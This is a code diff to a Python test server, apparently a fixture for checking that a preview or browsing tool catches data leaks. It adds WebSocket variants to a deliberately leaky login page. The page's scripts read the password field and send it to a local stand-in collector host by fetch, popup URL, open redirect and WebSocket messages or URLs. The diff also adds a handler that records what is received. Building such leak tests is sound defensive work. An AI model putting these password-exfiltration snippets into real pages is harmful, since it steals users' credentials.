@@ -5,6 +5,8 @@
 from __future__ import annotations
 
 import base64
+import contextlib
+import hashlib
 import html
 import secrets
 import threading
@@ -190,7 +192,9 @@ COLLECTOR_HOST = "localhost"  # the same server under a second host name: an att
 def _leaky_page(collector: str) -> bytes:
     """A login whose buttons carry the password off the preview: a form posting to another host, a form whose server
     redirects there, a script that sends it (base64 in a fetch's body, then in the URL of a navigation), one that
-    opens a popup with it in the URL, and one whose fetch to the preview's open redirect (/go?to=...) is sent on there."""
+    opens a popup with it in the URL, one whose fetch to the preview's open redirect (/go?to=...) is sent on there,
+    and two WebSockets to that host: one sends it as a message, one holds it in its URL."""
+    socket = collector.replace("http://", "ws://", 1)
     return _page(
         "Leaky login - Acme",
         '<h1>Leaky login</h1><form method="get" action="/relay">'
@@ -199,7 +203,9 @@ def _leaky_page(collector: str) -> bytes:
         "<button>Sign in via relay</button>"
         '<button type="button" onclick="leak()">Continue</button>'
         '<button type="button" onclick="receipt()">Open receipt</button>'
-        '<button type="button" onclick="checkout()">Check out</button></form>',
+        '<button type="button" onclick="checkout()">Check out</button>'
+        '<button type="button" onclick="chat()">Chat</button>'
+        '<button type="button" onclick="live()">Go live</button></form>',
         script=f"function leak() {{ var v = document.getElementById('password').value;"
         f" fetch('{collector}/collect', {{method: 'POST', mode: 'no-cors', body: btoa(v)}})"
         f".catch(function () {{}}).finally(function () {{"
@@ -207,7 +213,11 @@ def _leaky_page(collector: str) -> bytes:
         f" function receipt() {{ var v = document.getElementById('password').value;"
         f" window.open('{collector}/collect?v=' + encodeURIComponent(v)); }}"
         f" function checkout() {{ var v = document.getElementById('password').value;"
-        f" fetch('/go?to=' + encodeURIComponent('{collector}/collect?pw=' + v)).catch(function () {{}}); }}",
+        f" fetch('/go?to=' + encodeURIComponent('{collector}/collect?pw=' + v)).catch(function () {{}}); }}"
+        f" function chat() {{ var v = document.getElementById('password').value;"
+        f" var s = new WebSocket('{socket}/collect-ws'); s.onopen = function () {{ s.send('pw=' + v); }}; }}"
+        f" function live() {{ var v = document.getElementById('password').value;"
+        f" new WebSocket('{socket}/collect-ws?pw=' + encodeURIComponent(v)); }}",
     )
 
 
@@ -368,6 +378,24 @@ class _Handler(BaseHTTPRequestHandler):
         if self.command != "HEAD":
             self.wfile.write(body)
 
+    def _web_socket(self) -> None:
+        """The collector's WebSocket: each message the page sends on it is recorded as a request (/collect-ws#<text>)."""
+        key = self.headers.get("Sec-WebSocket-Key", "") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
+        accept = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
+        self.wfile.write(
+            "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+            f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode()
+        )
+        self.close_connection = True
+        with contextlib.suppress(OSError):
+            while (head := self.rfile.read(2)) and len(head) == 2 and head[0] & 0x0F != 8:  # until a close frame
+                size = head[1] & 0x7F
+                size = int.from_bytes(self.rfile.read({126: 2, 127: 8}[size]), "big") if size > 125 else size
+                mask = self.rfile.read(4)
+                text = bytes(b ^ mask[i % 4] for i, b in enumerate(self.rfile.read(size))).decode("utf-8", "replace")
+                with self.site._lock:
+                    self.site.requests.append(f"/collect-ws#{text}")
+
     def _redirect(self, location: str, headers: dict[str, str] | None = None) -> None:
         self._send(303, b"", {"Location": location, **(headers or {})})
 
@@ -417,6 +445,9 @@ class _Handler(BaseHTTPRequestHandler):
             return
         if path.startswith(moving.PREFIX):
             self._moving()
+            return
+        if path == "/collect-ws":
+            self._web_socket()
             return
         query = parse_qs(urlsplit(self.path).query)
         pages = {
@@ -526,6 +557,9 @@ class _Handler(BaseHTTPRequestHandler):
             return
         if path.startswith(moving.PREFIX):
             self._moving()
+            return
+        if path == "/collect-ws":
+            self._web_socket()
             return
         form = self._form()
         site = self.site
